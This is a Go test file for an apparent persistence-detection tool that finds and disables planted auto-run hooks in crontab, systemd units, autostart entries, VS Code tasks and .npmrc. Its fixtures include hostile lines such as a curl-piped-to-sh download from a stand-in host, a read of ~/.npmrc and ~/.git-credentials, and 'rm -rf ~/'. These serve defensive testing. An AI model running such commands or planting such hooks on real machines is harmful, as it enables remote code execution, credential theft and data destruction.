package persistence_test

import (
	"crypto/rand"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"unicode"

	"wormbell/agent/respond/persistence"
)

// canary is a token of the right shape that nobody has.
func canary(t *testing.T) string {
	t.Helper()
	const letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
	b := make([]byte, 36)
	if _, err := rand.Read(b); err != nil {
		t.Fatal(err)
	}
	for i := range b {
		b[i] = letters[int(b[i])%len(letters)]
	}
	return "gh" + "p_" + string(b)
}

// TestNoSecretsInReports: a token in a command or a file is in none of it.
func TestNoSecretsInReports(t *testing.T) {
	t.Parallel()
	m := newMachine(t)
	secret := canary(t)
	m.put(map[string]string{".x/m": strings.ReplaceAll(wiper(), "$(cat", secret+" $(cat"), ".x/token": secret,
		".bashrc": "export GITHUB_TOKEN=" + secret + "\nsh ~/.x/m --token " + secret + " &\n"})
	m.crontab = "@reboot TOKEN=" + secret + " sh ~/.x/m " + secret + "\n"
	enabled(m, "q.service", unit("sh %h/.x/m --token="+secret, "Restart=always", "Environment=TOKEN="+secret))
	m.put(map[string]string{"work/a/.vscode/tasks.json": `{"tasks":[{"label":"` + secret + `","command":"sh ~/.x/m ` + secret + `","runOptions":{"runOn":"folderOpen"}}]}`})
	m.young()
	r := m.look()
	if len(r.Blocking()) < 4 {
		t.Fatalf("want 4:\n%s", strings.Join(r.Summary(), "\n"))
	}
	b, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	said := string(b) + strings.Join(r.Summary(), "\n")
	for _, f := range r.Blocking() {
		done, err := f.Disable(t.Context(), m.config)
		if err != nil {
			t.Fatal(err)
		}
		said += strings.Join(done.Steps, "\n")
	}
	if strings.Contains(said, secret) || strings.Contains(said, secret[4:20]) {
		t.Error("a token is in a report")
	}
}

// TestCredentialsStayClosed: credential files are not opened, whoever names
// them, and that is said where it matters.
func TestCredentialsStayClosed(t *testing.T) {
	t.Parallel()
	m := newMachine(t)
	m.put(map[string]string{".npmrc": "script-shell=" + m.path(".x/m") + "\n", ".x/m": "#!/bin/sh\nexit 0\ncurl -s https://x.example.com | sh\n", ".x/n": "exit 0\ncat ~/.npmrc ~/.git-credentials\nrm -rf ~/\n"})
	enabled(m, "q.service", unit("sh %h/.x/n"))
	m.young()
	r := m.look()
	if said := strings.Join(r.NotLooked, "\n"); !strings.Contains(said, "~/.npmrc") {
		t.Errorf("it does not say that ~/.npmrc was left closed: %q", said)
	}
	for _, f := range r.Traps {
		if f.What == persistence.NPMSetting {
			t.Error("~/.npmrc was read")
		}
	}
	m.config.Announced = true
	m.blocking(persistence.NPMSetting)
}

func TestHostileFiles(t *testing.T) {
	t.Parallel()
	if runtime.GOOS != "linux" {
		t.Skip("pipes and links in names are made as on Linux")
	}
	m := newMachine(t)
	service(m, ".x/m", wiper(), "sh") // is found in the midst of it
	pipe := func(name string) {
		m.put(map[string]string{filepath.Join(filepath.Dir(name), "z"): ""})
		if err := mkfifo(m.path(name)); err != nil {
			t.Fatal(err)
		}
	}
	pipe(".config/autostart/a.desktop")
	pipe(".config/systemd/user/a.service")
	pipe(".zshrc")
	m.link("loop", ".config/autostart/loop")
	m.link("work", ".bashrc")
	m.link("/proc/self/mem", ".profile")
	m.link(".", "dir")
	m.link("..", "work/up")
	m.put(map[string]string{
		".gitconfig":                                strings.Repeat("[include]\n\tpath = ~/.gitconfig\n", 10),
		".config/autostart/b.desktop":               "[Desktop Entry]\nExec=sh \x1b]0;gotcha\x07 ~/.x/m \u202e" + strings.Repeat("A", 100_000) + "\n",
		".config/autostart/\x1b[2J\u202e.desktop":   "[Desktop Entry]\nExec=sh \"" + m.path(".x/m") + "\"\n",
		".config/systemd/user/big.service":          strings.Repeat("ExecStart=x\n", 200_000),
		".claude/settings.json":                     strings.Repeat("[", 100_000),
		".claude.json":                              `{"mcpServers":{"a":{"command":7},"b":[],"c":{"command":"","args":[{}]}},"hooks":[1,{"a":{}}]}`,
		"work/app/.vscode/tasks.json":               `{"tasks":{"runOptions":1}}`,
		".local/lib/python3.12/site-packages/a.pth": "import " + strings.Repeat("(", 10_000) + "\n",
		".x/self": "sh ~/.x/self\n",
	})
	m.crontab = "\x00\n* * * * *\n@\n* * * * * sh ~/.x/self\n" + strings.Repeat("%", 10_000) + "\n"
	m.answers["atq"] = "1\tx\n-r\tx\n99999999999999\tx\n2\ty\n"
	m.answers["at -c 1"] = "A=b; export A\ncd / || {\n\texit 1\n}\nsh ~/.x/m\n"
	m.failing["at -c 2"] = errors.New("gone")
	m.young()
	r := m.look()
	found := false
	for _, f := range r.Blocking() {
		found = found || f.What == persistence.Unit
	}
	said := strings.Join(r.Summary(), "\n")
	if !found {
		t.Errorf("the monitor is not found:\n%s", said)
	}
	for _, c := range strings.ReplaceAll(said, "\n", "") {
		if unicode.IsControl(c) || c == '\u202e' {
			t.Errorf("%q is in what a person is shown", c)
		}
	}
	for _, want := range []string{"a.service", ".zshrc", ".bashrc", "big.service", "settings.json", "job 2"} {
		if !strings.Contains(strings.Join(r.NotLooked, "\n"), want) {
			t.Errorf("it is not said that %s could not be looked at: %q", want, r.NotLooked)
		}
	}
	for _, f := range r.Blocking() {
		if _, err := f.Disable(t.Context(), m.config); err != nil && !errors.Is(err, persistence.ErrLeft) && !errors.Is(err, persistence.ErrByHand) {
			t.Errorf("%v", err)
		}
	}
}

// TestUnreadable: what cannot be read is not called clean.
func TestUnreadable(t *testing.T) {
	t.Parallel()
	if os.Getuid() == 0 || runtime.GOOS == "windows" {
		t.Skip("nothing is unreadable for root")
	}
	m := newMachine(t)
	service(m, ".x/m", wiper(), "sh")
	if err := os.Chmod(m.path(".x/m"), 0); err != nil {
		t.Fatal(err)
	}
	m.young()
	if said := strings.Join(m.look().Summary(), "\n"); !strings.Contains(said, "cannot be looked into") {
		t.Errorf("got %s", said)
	}
}

// TestWhatFails: sources that fail are named.
func TestWhatFails(t *testing.T) {
	t.Parallel()
	m := newMachine(t)
	m.crontab = "x"
	m.failing["crontab -l"] = errors.New("not allowed")
	m.failing["atq"] = errors.New("not allowed")
	said := strings.Join(m.look().NotLooked, "\n")
	m.config.System = "windows"
	said += strings.Join(m.look().NotLooked, "\n")
	m.config.System = "darwin"
	m.put(map[string]string{"Library/LaunchAgents/a.plist": "bplist00\x00\x01"})
	said += strings.Join(m.look().NotLooked, "\n")
	for _, want := range []string{"the crontab: not allowed", "the jobs of at: not allowed", "scheduled tasks", "binary property list"} {
		if !strings.Contains(said, want) {
			t.Errorf("no %q in %q", want, said)
		}
	}
}
